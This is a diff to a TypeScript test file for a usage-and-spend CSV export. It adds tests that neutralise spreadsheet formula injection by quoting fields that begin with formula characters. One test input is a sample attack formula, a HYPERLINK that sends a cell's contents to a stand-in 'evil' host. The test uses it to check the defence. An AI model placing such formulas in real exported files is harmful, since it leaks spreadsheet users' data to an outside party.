@@ -4,7 +4,7 @@ import { spendQuery, usageQuery } from '../../src/admin/spend-query';
 import { MemorySpendStore } from '../../src/spend/memory-store';
 import { scopesOf, sumsOf, type UsageRecord } from '../../src/spend/record';
 import { daysBetween, expiresAt } from '../../src/spend/store';
-import { csvLine, dollarText } from '../../src/spend/export';
+import { csvField, csvLine, dollarText } from '../../src/spend/export';
 import { GatewayError } from '../../src/errors';
 
 const record = (over: Partial<UsageRecord> = {}): UsageRecord => ({
@@ -90,5 +90,15 @@ describe('the export', () => {
 
   it('quotes a CSV field that needs it and leaves null fields empty', () => {
     expect(csvLine(record({ model: 'a,"b"', reason: null, key: null }))).toBe('2026-03-01T10:00:00.000Z,r1,,acme,"a,""b""",chat,chat,200,,10,4,5,2,false,0.000012345\n');
+  });
+
+  it('writes a text field a spreadsheet would run as a formula as quoted text, in every text column', () => {
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
+      expect(csvLine(record({ model: `${start}m`, request_id: `${start}r`, key: `${start}k`, org: `${start}o` }))).toBe(
+        `2026-03-01T10:00:00.000Z,"'${start}r","'${start}k","'${start}o","'${start}m",chat,chat,200,,10,4,5,2,false,0.000012345\n`);
+    }
+    expect(csvField('=HYPERLINK("http://evil/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
+    expect([csvField('a-b'), csvField(-1), csvField(false), csvField(null)]).toEqual(['a-b', '-1', 'false', '']);
   });
 });
